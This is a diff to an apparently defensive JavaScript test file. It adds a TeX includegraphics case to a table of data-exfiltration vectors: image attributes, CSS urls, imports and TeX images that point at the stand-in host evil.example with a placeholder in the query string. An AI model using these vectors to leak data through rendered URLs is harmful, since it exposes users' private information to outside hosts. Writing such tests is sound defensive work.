@@ -137,6 +137,7 @@ describe('where placeholders stay as they are', () => {
     ['an attribute of a tag over lines', `<img alt=x\n\nsrc = ' //evil.example/?q=a ${P}'>`],
     ['a CSS url', `background:url(https://evil.example/${P})`],
     ['a CSS url in quotes', `<style>a{background:url("https://evil.example/?q=a ${P}")}</style>`],
+    ['an image of TeX', `$$\\includegraphics{https://evil.example/?q=a ${P}}$$`],
     ['an import', `<style>@import "https://evil.example/?q=a ${P}";</style>`],
     ['another script’s domain', `例え.みんな/?q=${P}`],
     ['a code fence', `text\n\`\`\`js\nsend("${P}")\n\`\`\`\n`],
